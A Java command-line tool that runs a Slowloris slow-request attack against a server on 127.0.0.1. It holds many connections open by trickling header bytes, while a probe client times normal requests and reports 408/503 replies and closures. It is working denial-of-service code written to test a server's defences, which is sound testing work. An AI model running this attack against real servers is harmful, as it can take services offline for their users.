import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * Slowloris at scale against a server on 127.0.0.1, bounded in time.
 *
 * <p>Opens {@code --connections} connections, each sending the start of a
 * request and then one more header byte every {@code --interval}, never
 * finishing it. Meanwhile a normal client sends {@code GET /echo/probe} on a
 * fresh connection every second and times the answer (a probe gets at most
 * 5 s). After {@code --duration} it prints what the slow connections heard
 * (408, 503, nothing), when, whether the server closed them, and how the
 * probes fared. Loopback only; one thread for all slow connections.
 *
 * <pre>java tools/slowloris/Slowloris.java --port 4701 --connections 1000 --interval 2s --duration 40s</pre>
 */
public class Slowloris {

    static final long PROBE_TIMEOUT_MS = 5_000;

    /** One slow connection: what it has heard so far. */
    static final class Slow {
        final SocketChannel channel;
        final StringBuilder heard = new StringBuilder();
        long answeredAtMs = -1;
        long closedAtMs = -1;

        Slow(SocketChannel channel) {
            this.channel = channel;
        }

        String status() {
            String s = heard.toString();
            return s.startsWith("HTTP/1.1 ") && s.length() >= 12 ? s.substring(9, 12) : s.isEmpty() ? "none" : "?";
        }
    }

    public static void main(String[] args) throws Exception {
        Map<String, String> flags = new TreeMap<>();
        for (int i = 0; i + 1 < args.length; i += 2) {
            flags.put(args[i], args[i + 1]);
        }
        int port = Integer.parseInt(flags.getOrDefault("--port", "4221"));
        int n = Integer.parseInt(flags.getOrDefault("--connections", "1000"));
        long interval = millis(flags.getOrDefault("--interval", "2s"));
        long duration = millis(flags.getOrDefault("--duration", "40s"));
        InetSocketAddress server = new InetSocketAddress("127.0.0.1", port);

        long start = System.nanoTime();
        Selector selector = Selector.open();
        List<Slow> slow = new ArrayList<>();
        int refused = 0;
        for (int i = 0; i < n; i++) {
            try {
                SocketChannel channel = SocketChannel.open(server); // blocking connect: the kernel's handshake
                channel.write(ascii("GET /echo/slow-" + i + " HTTP/1.1\r\nHost: localhost\r\nX-Slow: "));
                channel.configureBlocking(false);
                Slow s = new Slow(channel);
                channel.register(selector, SelectionKey.OP_READ, s);
                slow.add(s);
            } catch (IOException e) {
                refused++;
            }
        }
        System.out.printf("opened %d slow connections in %d ms (%d failed to connect)%n",
                slow.size(), sinceMs(start), refused);

        List<Long> probeMs = new ArrayList<>();
        List<String> probeOutcomes = new ArrayList<>();
        Thread prober = Thread.ofPlatform().daemon().start(() -> probe(server, start, duration, probeMs, probeOutcomes));

        ByteBuffer buffer = ByteBuffer.allocate(4096);
        long nextTrickle = sinceMs(start) + interval;
        while (sinceMs(start) < duration) {
            selector.select(Math.max(1, Math.min(200, nextTrickle - sinceMs(start))));
            for (SelectionKey key : selector.selectedKeys()) {
                Slow s = (Slow) key.attachment();
                buffer.clear();
                int r;
                try {
                    r = s.channel.read(buffer);
                } catch (IOException reset) {
                    r = -1;
                }
                if (r > 0) {
                    if (s.answeredAtMs < 0) {
                        s.answeredAtMs = sinceMs(start);
                    }
                    if (s.heard.length() < 64) {
                        s.heard.append(new String(buffer.array(), 0, r, StandardCharsets.ISO_8859_1));
                    }
                } else if (r < 0) {
                    s.closedAtMs = sinceMs(start);
                    key.cancel();
                    s.channel.close();
                }
            }
            selector.selectedKeys().clear();
            if (sinceMs(start) >= nextTrickle) {
                for (Slow s : slow) {
                    if (s.closedAtMs < 0 && s.answeredAtMs < 0) {
                        try {
                            s.channel.write(ascii("a")); // one more header byte: the request never ends
                        } catch (IOException closed) {
                            s.closedAtMs = sinceMs(start);
                        }
                    }
                }
                nextTrickle += interval;
            }
        }
        prober.join(PROBE_TIMEOUT_MS + 1000);
        report(slow, probeMs, probeOutcomes, duration);
        for (Slow s : slow) {
            s.channel.close();
        }
    }

    /** A normal client, once a second: fresh connection, one request, the time to a whole answer. */
    static void probe(InetSocketAddress server, long start, long duration, List<Long> ms, List<String> outcomes) {
        while (sinceMs(start) + PROBE_TIMEOUT_MS < duration) {
            long t = System.nanoTime();
            String outcome;
            try (Socket socket = new Socket()) {
                socket.connect(server, (int) PROBE_TIMEOUT_MS);
                socket.setSoTimeout((int) PROBE_TIMEOUT_MS);
                socket.getOutputStream().write(ascii("GET /echo/probe HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n").array());
                String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
                outcome = answer.length() >= 12 ? answer.substring(9, 12) : "closed";
            } catch (java.net.SocketTimeoutException e) {
                outcome = "no answer in 5 s";
            } catch (IOException e) {
                outcome = "error: " + e.getMessage();
            }
            synchronized (ms) {
                ms.add(sinceMs(t));
                outcomes.add(outcome);
            }
            try {
                Thread.sleep(1000);
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    static void report(List<Slow> slow, List<Long> probeMs, List<String> outcomes, long duration) {
        Map<String, List<Long>> byStatus = new TreeMap<>();
        int closed = 0;
        for (Slow s : slow) {
            byStatus.computeIfAbsent(s.status(), k -> new ArrayList<>()).add(s.answeredAtMs);
            if (s.closedAtMs >= 0) {
                closed++;
            }
        }
        System.out.printf("after %d s, slow connections by what they heard:%n", duration / 1000);
        byStatus.forEach((status, times) -> {
            List<Long> t = times.stream().filter(x -> x >= 0).sorted().toList();
            System.out.printf("  %-5s %4d%s%n", status, times.size(), t.isEmpty() ? ""
                    : String.format("  answered at %.1f–%.1f s (median %.1f s)", t.get(0) / 1000.0,
                            t.get(t.size() - 1) / 1000.0, t.get(t.size() / 2) / 1000.0));
        });
        System.out.printf("  closed by the server: %d of %d%n", closed, slow.size());
        synchronized (probeMs) {
            Map<String, Integer> counts = new TreeMap<>();
            outcomes.forEach(o -> counts.merge(o, 1, Integer::sum));
            List<Long> sorted = probeMs.stream().sorted().toList();
            System.out.printf("normal client, one probe a second: %s; latency median %d ms, max %d ms%n",
                    counts, sorted.isEmpty() ? -1 : sorted.get(sorted.size() / 2),
                    sorted.isEmpty() ? -1 : sorted.get(sorted.size() - 1));
            StringBuilder timeline = new StringBuilder("  probe timeline (status/ms):");
            for (int i = 0; i < outcomes.size(); i++) {
                timeline.append(' ').append(outcomes.get(i).length() > 3 ? "-" : outcomes.get(i))
                        .append('/').append(probeMs.get(i));
            }
            System.out.println(timeline);
        }
    }

    static long millis(String d) {
        if (d.endsWith("ms")) {
            return Long.parseLong(d.substring(0, d.length() - 2));
        }
        if (d.endsWith("s")) {
            return Long.parseLong(d.substring(0, d.length() - 1)) * 1000;
        }
        return Long.parseLong(d);
    }

    static long sinceMs(long startNanos) {
        return (System.nanoTime() - startNanos) / 1_000_000;
    }

    static ByteBuffer ascii(String s) {
        return ByteBuffer.wrap(s.getBytes(StandardCharsets.ISO_8859_1));
    }
}
